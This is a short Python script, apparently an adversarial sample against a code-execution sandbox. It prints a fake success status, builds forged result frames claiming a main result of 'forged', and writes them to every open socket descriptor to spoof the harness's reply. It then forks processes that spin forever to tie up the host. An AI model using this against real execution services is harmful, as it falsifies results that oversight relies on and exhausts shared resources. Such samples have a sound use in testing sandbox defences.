# Forge a whole answer: the marker, a value, the end; then do as one likes.
import json
import os
import stat
import struct
import time

print('{"ok": true, "status": "ok", "cause": ""}', flush=True)


def frame(kind, payload):
    text = json.dumps(payload).encode()
    return struct.pack(">IB", len(text), ord(kind)) + text


forged = frame("V", {"is_main_result": True, "data": {"text/plain": json.dumps("forged")}})
forged += frame("Z", {"execution": "", "ok": True})
for fd in range(3, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, forged)
    except OSError:
        pass
if WORLD["run"] == 0:
    time.sleep(0.3)
    _libc._exit(7)
for _ in range(2):
    if os.fork() == 0:
        break
while True:
    pass
